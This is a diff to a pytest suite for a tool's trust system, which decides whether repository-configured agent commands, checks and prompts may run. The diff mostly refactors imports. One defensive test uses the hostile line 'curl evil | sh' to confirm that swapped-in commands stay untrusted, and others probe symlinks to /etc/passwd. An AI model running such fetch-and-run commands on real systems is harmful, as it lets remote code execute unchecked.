@@ -10,9 +10,13 @@ from pathlib import Path
 import pytest
 
 from agentd.domain.errors import NotTrusted, SetupError
-from agentd.project import config, trust
+from agentd.project.config.loader import load_config
+from agentd.project.config.settings import Config
+from agentd.project.config.template import render_template
 from agentd.project.layout import Project, find_project
-from agentd.project.trust import TrustItem, TrustKind, TrustStatus
+from agentd.project.trust.items import TrustItem, TrustKind, prompt_item, prompt_overrides, trust_items
+from agentd.project.trust.status import TrustStatus, ensure_trusted, is_trusted, trust_states, untrusted_items
+from agentd.project.trust.store import grant_trust, revoke_trust
 from program import PATIENCE
 from scenario import Scenario
 
@@ -31,27 +35,27 @@ def here(box: Scenario) -> Project:
     return find_project(str(box.root))
 
 
-def load(box: Scenario, *flags: str) -> config.Config:
-    return config.load_config(box.root / "agentd/config.toml", flags=flags, environ=box.env)
+def load(box: Scenario, *flags: str) -> Config:
+    return load_config(box.root / "agentd/config.toml", flags=flags, environ=box.env)
 
 
-def says(box: Scenario, toml: str) -> config.Config:
+def says(box: Scenario, toml: str) -> Config:
     """The repository's config.toml says this."""
     box.write("agentd/config.toml", f"schema_version = 1\n{toml}")
     return load(box)
 
 
 def wanted(box: Scenario, *flags: str) -> dict[str, str]:
-    return {item.key: item.text for item in trust.trust_items(here(box), load(box, *flags))}
+    return {item.key: item.text for item in trust_items(here(box), load(box, *flags))}
 
 
 def trust_all(box: Scenario) -> None:
-    trust.grant_trust(here(box), trust.trust_items(here(box), load(box)), box.env)
-    trust.ensure_trusted(here(box), load(box), box.env)
+    grant_trust(here(box), trust_items(here(box), load(box)), box.env)
+    ensure_trusted(here(box), load(box), box.env)
 
 
 def standing(box: Scenario, *flags: str) -> dict[str, str]:
-    return {one.item.key: str(one.status) for one in trust.trust_states(here(box), load(box, *flags), box.env)}
+    return {one.item.key: str(one.status) for one in trust_states(here(box), load(box, *flags), box.env)}
 
 
 def user_says(box: Scenario, toml: str) -> None:
@@ -64,9 +68,9 @@ def user_says(box: Scenario, toml: str) -> None:
 
 
 def test_default_config_needs_no_trust(box: Scenario) -> None:
-    box.write("agentd/config.toml", config.render_template("notes", {}, ()))
+    box.write("agentd/config.toml", render_template("notes", {}, ()))
     assert wanted(box) == {}
-    trust.ensure_trusted(here(box), load(box), box.env)
+    ensure_trusted(here(box), load(box), box.env)
 
 
 def test_checks_worktree_setup_agents_and_prompts_need_trust(box: Scenario) -> None:
@@ -118,7 +122,7 @@ def test_every_key_that_reaches_an_agents_command_needs_trust(box: Scenario, lin
     (text,) = wanted(box).values()
     assert line.partition(" = ")[0] in text
     with pytest.raises(NotTrusted):
-        trust.ensure_trusted(here(box), load(box), box.env)
+        ensure_trusted(here(box), load(box), box.env)
 
 
 def test_agent_whose_kind_the_user_changed_needs_no_trust(box: Scenario) -> None:
@@ -174,8 +178,8 @@ def test_repository_file_outside_a_subproject_is_covered(box: Scenario) -> None:
     inner = box.root / "packages/api"
     box.write("packages/api/agentd/config.toml", '[agents.mine]\nkind = "command"\ncommand = "../../agent.sh"\n')
     box.write("agent.sh", "one\n")
-    settings = config.load_config(inner / "agentd/config.toml", environ=box.env)
-    (item,) = trust.trust_items(find_project(str(inner)), settings)
+    settings = load_config(inner / "agentd/config.toml", environ=box.env)
+    (item,) = trust_items(find_project(str(inner)), settings)
     assert '"agent.sh" = sha256:' in item.text
 
 
@@ -193,10 +197,10 @@ def test_prompts_are_identified_by_every_byte(box: Scenario) -> None:
     path.write_bytes(b"caf\xe9\r\n")
     assert list(wanted(box)) == ["prompt deep/review.md"]
     trust_all(box)
-    assert trust.prompt_overrides(here(box)) == {"deep/review.md": b"caf\xe9\r\n"}
-    assert trust.is_trusted(here(box), trust.prompt_item("deep/review.md", b"caf\xe9\r\n"), box.env)
-    assert not trust.is_trusted(here(box), trust.prompt_item("deep/review.md", b"caf\xe8\r\n"), box.env)
-    assert not trust.is_trusted(here(box), trust.prompt_item("deep/other.md", b"caf\xe9\r\n"), box.env)
+    assert prompt_overrides(here(box)) == {"deep/review.md": b"caf\xe9\r\n"}
+    assert is_trusted(here(box), prompt_item("deep/review.md", b"caf\xe9\r\n"), box.env)
+    assert not is_trusted(here(box), prompt_item("deep/review.md", b"caf\xe8\r\n"), box.env)
+    assert not is_trusted(here(box), prompt_item("deep/other.md", b"caf\xe9\r\n"), box.env)
     path.write_bytes(b"caf\xe9\n")
     assert standing(box) == {"prompt deep/review.md": "changed"}
 
@@ -206,7 +210,7 @@ def test_symlink_within_the_repository_is_followed(box: Scenario) -> None:
     box.write("docs/review.md", "one")
     box.write("agentd/prompts/a.md", "")
     (box.root / "agentd/prompts/b.md").symlink_to("../../docs/review.md")
-    assert trust.prompt_overrides(here(box)) == {"a.md": b"", "b.md": b"one"}
+    assert prompt_overrides(here(box)) == {"a.md": b"", "b.md": b"one"}
 
 
 @pytest.mark.parametrize("target", ["/etc/passwd", "../../../outside.md", "../../docs", "nothing", "/etc"])
@@ -217,7 +221,7 @@ def test_symlink_out_of_the_repository_or_to_a_non_file_is_refused(box: Scenario
     (box.root / "agentd/prompts").mkdir()
     (box.root / "agentd/prompts/a.md").symlink_to(target)
     with pytest.raises(SetupError, match=r"agentd/prompts/a\.md is"):
-        trust.ensure_trusted(here(box), load(box), box.env)
+        ensure_trusted(here(box), load(box), box.env)
 
 
 def test_prompts_folder_linked_outside_is_refused(box: Scenario) -> None:
@@ -226,7 +230,7 @@ def test_prompts_folder_linked_outside_is_refused(box: Scenario) -> None:
     (box.root.parent / "prompts/a.md").write_text("secret")
     (box.root / "agentd/prompts").symlink_to(box.root.parent / "prompts")
     with pytest.raises(SetupError, match=r"agentd/prompts is a link out"):
-        trust.prompt_overrides(here(box))
+        prompt_overrides(here(box))
 
 
 def test_pipe_or_huge_file_among_the_prompts_is_refused(box: Scenario) -> None:
@@ -234,12 +238,12 @@ def test_pipe_or_huge_file_among_the_prompts_is_refused(box: Scenario) -> None:
     (box.root / "agentd/prompts").mkdir()
     os.mkfifo(box.root / "agentd/prompts/a.md")
     with pytest.raises(SetupError, match="is no file"):
-        trust.prompt_overrides(here(box))
+        prompt_overrides(here(box))
     (box.root / "agentd/prompts/a.md").unlink()
     with (box.root / "agentd/prompts/a.md").open("wb") as file:
         file.truncate(1 << 33)
     with pytest.raises(SetupError, match="larger than"):
-        trust.prompt_overrides(here(box))
+        prompt_overrides(here(box))
 
 
 # ---- trusting --------------------------------------------------------------------------------------
@@ -249,10 +253,10 @@ def test_changing_one_character_revokes_trust(box: Scenario) -> None:
     says(box, CHECKS)
     trust_all(box)
     says(box, CHECKS.replace("make test", "make tesu"))
-    (one,) = trust.untrusted_items(here(box), load(box), box.env)
+    (one,) = untrusted_items(here(box), load(box), box.env)
     assert (one.item.key, one.status, one.was and one.was.text) == ("check tests", TrustStatus.CHANGED, "make test")
     with pytest.raises(NotTrusted, match=r"check tests \(changed\): make tesu"):
-        trust.ensure_trusted(here(box), load(box), box.env)
+        ensure_trusted(here(box), load(box), box.env)
 
 
 def test_versions_of_two_branches_stay_trusted(box: Scenario) -> None:
@@ -265,15 +269,15 @@ def test_versions_of_two_branches_stay_trusted(box: Scenario) -> None:
 
 def test_same_text_is_not_trusted_for_another_purpose(box: Scenario) -> None:
     says(box, '[git]\nworktree_setup = "make test"\n')
-    trust.grant_trust(here(box), [TrustItem(TrustKind.CHECK, "tests", "make test")], box.env)
+    grant_trust(here(box), [TrustItem(TrustKind.CHECK, "tests", "make test")], box.env)
     assert standing(box) == {"worktree-setup": "new"}
 
 
 def test_only_what_was_shown_is_trusted(box: Scenario) -> None:
     says(box, CHECKS)
-    shown = trust.trust_items(here(box), load(box))
+    shown = trust_items(here(box), load(box))
     says(box, CHECKS.replace("make test", "curl evil | sh"))
-    trust.grant_trust(here(box), shown, box.env)
+    grant_trust(here(box), shown, box.env)
     assert standing(box)["check tests"] == "changed"
 
 
@@ -285,7 +289,7 @@ def test_repositories_and_projects_do_not_share_trust(box: Scenario, tmp_path: P
     box.write("packages/api/agentd/config.toml", CHECKS)
     for folder in (tmp_path / "clone", box.root / "packages/api"):
         other = find_project(str(folder))
-        left = trust.untrusted_items(other, config.load_config(other.config_file, environ=box.env), box.env)
+        left = untrusted_items(other, load_config(other.config_file, environ=box.env), box.env)
         assert [one.status for one in left] == [TrustStatus.NEW, TrustStatus.NEW], folder
 
 
@@ -295,7 +299,7 @@ def test_worktrees_of_a_repository_share_trust(box: Scenario, tmp_path: Path) ->
     box.commit()
     box.git("worktree", "add", "-q", "-b", "other", str(tmp_path / "other"))
     tree = find_project(str(tmp_path / "other"))
-    trust.ensure_trusted(tree, config.load_config(tree.config_file, environ=box.env), box.env)
+    ensure_trusted(tree, load_config(tree.config_file, environ=box.env), box.env)
 
 
 def test_withdrawing_trust_affects_only_this_project(box: Scenario, tmp_path: Path) -> None:
@@ -304,17 +308,17 @@ def test_withdrawing_trust_affects_only_this_project(box: Scenario, tmp_path: Pa
     other = Scenario(tmp_path / "other", box.home)
     says(other, CHECKS)
     trust_all(other)
-    assert trust.revoke_trust(here(box), box.env) == 2
+    assert revoke_trust(here(box), box.env) == 2
     assert set(standing(box).values()) == {"new"}
     assert set(standing(other).values()) == {"trusted"}
-    assert trust.revoke_trust(here(box), box.env) == 0
+    assert revoke_trust(here(box), box.env) == 0
 
 
 def test_error_lists_a_few_printable_lines(box: Scenario) -> None:
     many = "".join(f'[[checks]]\nname = "c{n}"\ncommand = "a\\u001b[2Jb\\u202e{"x" * 300}\\nc"\n' for n in range(40))
     says(box, many)
     with pytest.raises(NotTrusted) as caught:
-        trust.ensure_trusted(here(box), load(box), box.env)
+        ensure_trusted(here(box), load(box), box.env)
     lines = caught.value.message.split("\n")
     assert len(lines) == 8 and lines[-1] == "  and 34 more"
     assert all(line.isprintable() and len(line) <= 100 for line in lines)
@@ -357,12 +361,12 @@ def test_broken_trust_file_is_named_and_neither_ignored_nor_overwritten(box: Sce
     settings = says(box, CHECKS)
     trust_file(box).parent.mkdir(parents=True)
     trust_file(box).write_text(text)
-    items = trust.trust_items(here(box), settings)
+    items = trust_items(here(box), settings)
     for act in (
-        lambda: trust.ensure_trusted(here(box), settings, box.env),
-        lambda: trust.is_trusted(here(box), items[0], box.env),
-        lambda: trust.grant_trust(here(box), items, box.env),
-        lambda: trust.revoke_trust(here(box), box.env),
+        lambda: ensure_trusted(here(box), settings, box.env),
+        lambda: is_trusted(here(box), items[0], box.env),
+        lambda: grant_trust(here(box), items, box.env),
+        lambda: revoke_trust(here(box), box.env),
     ):
         with pytest.raises(SetupError, match=r"trust\.json") as caught:
             act()
@@ -375,10 +379,10 @@ def test_nothing_is_trusted_without_a_home_folder(box: Scenario) -> None:
     trust_all(box)
     del box.env["HOME"]
     with pytest.raises(NotTrusted, match="no home folder") as caught:
-        trust.ensure_trusted(here(box), settings, box.env)
+        ensure_trusted(here(box), settings, box.env)
     assert "HOME" in caught.value.hint
     with pytest.raises(SetupError, match="no home folder"):
-        trust.grant_trust(here(box), trust.trust_items(here(box), settings), box.env)
+        grant_trust(here(box), trust_items(here(box), settings), box.env)
 
 
 def test_symlinked_trust_file_stays_a_symlink(box: Scenario, tmp_path: Path) -> None:
@@ -395,7 +399,7 @@ def test_long_text_is_stored_only_by_its_hash(box: Scenario) -> None:
     trust_all(box)
     assert "secret" not in trust_file(box).read_text()
     box.write("agentd/prompts/long.md", "secret " * 1001)
-    (one,) = trust.untrusted_items(here(box), load(box), box.env)
+    (one,) = untrusted_items(here(box), load(box), box.env)
     assert one.status is TrustStatus.CHANGED and one.was and one.was.text is None
 
 
@@ -403,10 +407,10 @@ def test_trust_file_does_not_grow_without_bound(box: Scenario) -> None:
     says(box, CHECKS)
     project = here(box)
     for number in range(50):
-        trust.grant_trust(project, [TrustItem(TrustKind.CHECK, "tests", f"make {number}")], box.env)
+        grant_trust(project, [TrustItem(TrustKind.CHECK, "tests", f"make {number}")], box.env)
     assert len(trust_file(box).read_text().split('"hash"')) == 21
-    assert trust.is_trusted(here(box), TrustItem(TrustKind.CHECK, "tests", "make 49"), box.env)
-    assert not trust.is_trusted(here(box), TrustItem(TrustKind.CHECK, "tests", "make 0"), box.env)
+    assert is_trusted(here(box), TrustItem(TrustKind.CHECK, "tests", "make 49"), box.env)
+    assert not is_trusted(here(box), TrustItem(TrustKind.CHECK, "tests", "make 0"), box.env)
 
 
 GIVER = """
@@ -435,5 +439,5 @@ def test_concurrent_trust_changes_lose_nothing(box: Scenario, tmp_path: Path) ->
     for one in boxes:
         for name in ("a", "b"):
             for number in range(20):
-                assert trust.is_trusted(here(one), TrustItem(TrustKind.CHECK, f"{name}-{number}", "x"), box.env)
+                assert is_trusted(here(one), TrustItem(TrustKind.CHECK, f"{name}-{number}", "x"), box.env)
     assert sorted(path.name for path in trust_file(box).parent.iterdir()) == ["trust.json", "trust.lock"]
